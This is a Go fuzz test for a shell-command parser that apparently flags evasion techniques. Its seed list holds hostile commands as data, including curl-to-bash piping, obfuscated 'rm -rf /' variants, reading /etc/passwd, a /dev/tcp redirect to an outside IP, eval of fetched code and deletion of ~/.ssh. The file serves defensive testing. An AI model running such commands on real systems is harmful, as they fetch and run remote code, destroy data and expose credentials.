package shell

import (
	"testing"
)

var fuzzSeeds = []string{
	"git status",
	"curl -fsSL https://x.sh | bash",
	"r''m -rf / ; c'u'rl x",
	"cat${IFS}/etc/passwd",
	`$'\x72\x6d' -rf x`,
	`bash -c "echo $(id) | sh" > /dev/tcp/1.2.3.4/80 2>&1`,
	"bash <<EOF\nrm -rf /\nEOF\n",
	"sh <<< 'id'",
	"sudo -u root env A=1 nice timeout 3 rm x",
	`find . -name '*.tmp' -exec rm -f {} \;`,
	"ls | xargs -I{} sh -c 'cat {}'",
	"watch -n1 'ls | wc -l'",
	"for f in $(ls); do rm \"$f\"; done",
	"f() { (a | b) && { c; }; }; f &",
	"echo 'unterminated",
	"a 2>&1 | b & (",
	"{ echo a; } > /etc/motd",
	"case $x in a) y;; esac",
	"[[ -n $(id) ]] && (( $(wc -l < f) > 1 ))",
	"declare -A m=([k]=$(id)); export X+=y",
	"time -p make",
	"coproc nc -l 1",
	"eval \"$(curl x)\"",
	"env -S 'bash -c id'",
	"a | (b | c) | d",
	"/???/r? {rm,-rf,x}",
	"",
	"cd web && npm test",
	"cat a | grep b",
	"go build ./... && go test ./...",
	"ls -la | head -20",
	`git add -A && git commit -m "x"`,
	"make || echo failed; echo done;",
	"go test ./... > out.txt 2>&1 | tee log",
	"a >>log 2>&- <in &>all &>>all <&3 >&2",
	"sudo bash -c 'a | b' | xargs -n1 rm && find . -exec sh -c id +",
	"{ watch 'a | b'; } > f",
	"rm -rf ~/.ssh ~root a=~ && cat ~",
}

// FuzzParse checks that Parse never panics, keeps its structural promises,
// and that the fast path gives exactly what the full parse gives.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s := Parse(src)
		if s.Source != src {
			t.Fatalf("Source changed")
		}
		checkInvariants(t, s)
		for _, e := range s.Evasions {
			if len(e.Evidence) > maxEvidence {
				t.Errorf("evidence %d bytes", len(e.Evidence))
			}
		}
		// The fast path also serves nested scripts (bash -c '…', watch '…'),
		// so compare whatever the line.
		if full := parse(src, false); !sameScript(s, full) {
			t.Errorf("fast path differs from full parse (eligible: %v)\nfast %+v\nfull %+v",
				fastPathEligible(src), s, full)
		}
	})
}
